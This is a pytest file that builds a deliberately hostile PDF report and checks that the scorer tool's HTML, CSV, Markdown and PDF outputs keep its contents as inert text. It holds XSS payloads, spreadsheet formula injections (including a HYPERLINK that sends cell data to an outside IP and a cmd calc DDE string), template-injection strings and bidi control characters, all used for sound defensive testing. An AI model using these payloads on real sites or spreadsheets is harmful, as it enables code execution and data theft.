"""From a hostile PDF to its card and tables: whatever stands in a report is text, inert and readable."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from reportlab.lib.pagesizes import A4
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.ttfonts import TTFont
from reportlab.pdfgen.canvas import Canvas

from scorer.cli import main

ROOT = Path(__file__).resolve().parents[2]
FONT = next((ROOT / "reports" / "fonts").glob("*Regular*.ttf"))
BIDI = "\u202e\u2066\u200f"
LONG = "w" * 100_000
LINES = (
    "</script></style><svg onload='window.hacked=1'> Remedy",
    "In March 2023 we repaid recruitment fees of USD 41,200 <script>window.hacked=2</script> to 63 workers.",
    f"In May 2023 we repaid {BIDI}fees of USD 9,300{BIDI} to 12 workers <img src=x onerror=window.hacked=3> in Penang.",
    '=HYPERLINK("http://198.51.100.1/?"&A1,"x") In June 2023 we repaid recruitment fees of USD 700 to two workers.',
    "@SUM(1+1)*cmd|'/c calc'!A0 In July 2023 we repaid recruitment fees of USD 800 to three workers.",
    "In August 2023 we repaid {{ 7*7 }}{% raw %} ${alert(1)} recruitment fees of USD 900 to four workers.",
    "In October 2023 we repaid recruitment fees to workers " + "w" * 400 + " of USD 1,000.",
)


@pytest.fixture(scope="module")
def scored(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder with the cards of a report in which every text is hostile."""
    folder = tmp_path_factory.mktemp("hostile")
    pdfmetrics.registerFont(TTFont("Hostile", FONT))
    canvas = Canvas(str(folder / "report.pdf"), pagesize=A4, invariant=True)
    canvas.setTitle(f"<script>window.hacked=4</script>{BIDI}{LONG}")
    canvas.setAuthor(f"=cmd|'/c calc'!A0 {LONG} Ltd")
    canvas.setFont("Hostile", 16)
    canvas.drawString(40, 780, LINES[0])
    canvas.setFont("Hostile", 6)
    for n, line in enumerate(LINES[1:]):
        for row, at in enumerate(range(0, len(line), 150)):
            canvas.drawString(40, 740 - 60 * n - 8 * row, line[at : at + 150])
    canvas.save()
    words = ("score", folder / "report.pdf", "--no-library", "--out", folder, "--format", "html,json,csv,md,xlsx,pdf")
    result = CliRunner().invoke(main, list(map(str, words)), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert not re.search("[\x00-\x08\x0b-\x1f\u202a-\u202e\u2066-\u2069]", result.output)
    return folder


@pytest.mark.browser
def test_the_page_of_a_hostile_report_is_inert_and_readable(scored: Path, chromium) -> None:
    requests: list[str] = []
    errors: list[str] = []
    page = chromium.new_context(viewport={"width": 360, "height": 800}).new_page()
    page.on("request", lambda request: requests.append(request.url))
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("dialog", lambda dialog: errors.append("dialog") or dialog.dismiss())
    page.goto((scored / "report.scorecard.html").as_uri())
    page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")

    assert page.evaluate("window.hacked") is None
    assert errors == []
    assert [url for url in requests if not url.startswith("data:")] == [page.url]
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    text = page.inner_text("body")
    assert not re.search("[\x00-\x08\x0e-\x1f\u202a-\u202e\u2066-\u2069]", text)
    for said in (
        "<script>window.hacked=2</script> to 63 workers",
        "=HYPERLINK(",
        "{{ 7*7 }}",
        "onerror=window.hacked=3",
    ):
        assert said in text
    page.context.close()


def test_the_tables_of_a_hostile_report_run_nothing(scored: Path) -> None:
    for name in ("report.scorecard.csv", "report.evidence.csv"):
        rows = list(csv.reader((scored / name).read_text(encoding="utf-8-sig").splitlines(keepends=True)))
        assert len(rows) > 1
        for cell in (cell for row in rows for cell in row):
            assert not re.match(r"\s*[=+@\t\r]|\s*-[^\d]", cell), cell
    evidence = (scored / "report.evidence.csv").read_text(encoding="utf-8-sig")
    assert "USD 700" in evidence and "USD 800" in evidence  # inert, and there


def test_other_forms_of_a_hostile_card_are_text(scored: Path) -> None:
    markdown = (scored / "report.scorecard.md").read_text(encoding="utf-8")
    assert "<script" not in markdown and "<img" not in markdown
    assert not re.search("[\x00-\x08\x0e-\x1f\u202a-\u202e\u2066-\u2069]", markdown)
    assert "USD 41,200" in markdown
    assert (scored / "report.annotated.pdf").stat().st_size < 5_000_000
    assert sum(path.stat().st_size for path in scored.glob("report.scorecard.*")) < 5_000_000
